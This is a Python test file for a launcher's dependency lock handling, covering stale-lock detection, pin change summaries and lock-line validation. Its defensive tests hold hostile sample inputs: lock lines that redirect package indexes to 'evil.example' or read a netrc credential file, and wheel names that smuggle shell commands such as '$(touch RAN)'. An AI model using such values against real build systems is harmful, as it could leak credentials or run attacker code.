"""Which lock fits, which is stale, and what changed. What uv resolves is tested with the images."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from launcher.config.models import Source
from launcher.environment.describe import describe
from launcher.environment.locks import inputs_digest
from launcher.errors import ConfigurationError
from launcher.images import lock, wheels
from launcher.images.lock import changes, pins_of
from tests.unit.images.projects import described, project, source

PINS = "six==1.17.0 \\\n    --hash=sha256:aa\n"


def locked(root: Path, one: Source, text: str) -> None:
    (root / "locks").mkdir(exist_ok=True)
    (root / "locks" / f"{one.name}.txt").write_text(text)


def test_a_lock_that_fits_is_part_of_the_environment_without_its_comments(tmp_path: Path) -> None:
    bare = described(tmp_path, source())
    locked(tmp_path, source(), f"# Made by: dltpod lock one\n# inputs: {inputs_digest(bare)}\n{PINS}")
    environment = described(tmp_path, source())
    assert environment.lock == PINS
    assert environment.digest != bare.digest


def test_a_stale_lock_is_left_aside_and_said(tmp_path: Path) -> None:
    locked(tmp_path, source(), f"# inputs: {inputs_digest(described(tmp_path, source()))}\n{PINS}")
    environment = described(tmp_path, source(requirements=("idna",)))
    assert environment.lock is None
    assert environment.notes == ("locks/one.txt is stale and left aside: dltpod lock one",)


@pytest.mark.parametrize("text", [None, "# inputs: 0123\n", "", "\x00"])
def test_with_locked_a_missing_or_stale_lock_is_refused(tmp_path: Path, text: str | None) -> None:
    if text is not None:
        locked(tmp_path, source(), text)
    with pytest.raises(ConfigurationError) as error:
        describe(project(tmp_path, source()), source(), base_identity="", locked=True)
    assert error.value.hint == "dltpod lock one, and commit locks/one.txt"


def test_the_platform_and_the_base_do_not_make_a_lock_stale(tmp_path: Path) -> None:
    one = project(tmp_path, source())
    here = describe(one, source(), base_identity="a", platform="linux/amd64")
    there = describe(one, source(), base_identity="b", platform="linux/arm64")
    assert inputs_digest(here) == inputs_digest(there)
    assert here.digest != there.digest


def test_changes_are_told_in_words() -> None:
    old = pins_of(
        "six==1.16.0 \\\n    --hash=sha256:aa\nidna==3.1\nerp @ git+https://example.org/erp@0123456789abcdef\n"
    )
    new = pins_of("six==1.17.0\nerp @ git+https://example.org/erp@fedcba9876543210\nzipp==3.0\n")
    assert changes(old, new) == (
        "erp 0123456789ab → fedcba987654",
        "idna 3.1 removed",
        "six 1.16.0 → 1.17.0",
        "zipp 3.0 added",
    )


def test_what_can_have_no_hash_is_installed_apart() -> None:
    text = (
        "six==1.17.0 \\\n    --hash=sha256:aa\n./packages/erp[pdf]\nerp2 @ git+https://example.org/erp@01\n"
    )
    hashed, rest = wheels.of_lock(text)
    assert hashed == "six==1.17.0 \\\n    --hash=sha256:aa\n"
    assert rest.lines == ("@@0@@[pdf]", "erp2 @ file://@@1@@")
    assert [item.asked for item in rest.builds] == ["./local/packages/erp", ""]


@pytest.mark.parametrize(
    "line",
    [
        "--find-links http://evil.example/${UV_INDEX}",
        "-r /dev/dltpod/netrc",
        "six==1.17.0 --index-url http://evil.example",
        "six==${UV_INDEX}",
        "erp @ git+https://evil.example/${UV_INDEX}@0123",
    ],
)
def test_a_lock_holds_no_line_that_uv_would_follow(line: str) -> None:
    assert lock._LINE.match(line) is None


@pytest.mark.parametrize(
    "line",
    [
        "six==1.17.0 \\",
        "    --hash=sha256:aa \\",
        "    --hash=sha256:aa",
        "pywin32==311 ; sys_platform == 'win32' \\",
        "./packages/erp[pdf]",
        "erp[pdf] @ git+https://example.org/erp@0123#subdirectory=a/b",
    ],
)
def test_a_lock_holds_pins_hashes_local_paths_and_commits(line: str) -> None:
    assert lock._LINE.match(line)


@pytest.mark.parametrize("name", ["zz|;1e touch RAN;#.whl", "a b.whl", "$(touch RAN).whl"])
def test_the_name_of_a_wheel_that_build_code_made_runs_nothing(tmp_path: Path, name: str) -> None:
    made = tmp_path / "made" / "wheels" / "0"
    made.mkdir(parents=True)
    (made / name).write_text("x")
    (made / "erp-1.0-py3-none-any.whl").write_text("x")
    (tmp_path / "requirements.txt").write_text("@@0@@\n")
    common = (Path(__file__).parents[3] / "launcher/assets/common.sh").read_text()
    begin = common.index("made_wheels() {")
    functions = common[begin : common.index("\n}\n", common.index("take_wheels() {", begin)) + 3]
    script = (
        functions.replace("/dev/dltpod/wheels", str(tmp_path / "made")) + "take_wheels requirements.txt\n"
    )
    environ = {**os.environ, "given": str(tmp_path)}
    subprocess.run(["sh", "-eu", "-c", script], cwd=tmp_path, env=environ, check=True)
    assert not (tmp_path / "RAN").exists()
    assert (tmp_path / "requirements.txt").read_text().endswith("/erp-1.0-py3-none-any.whl\n")
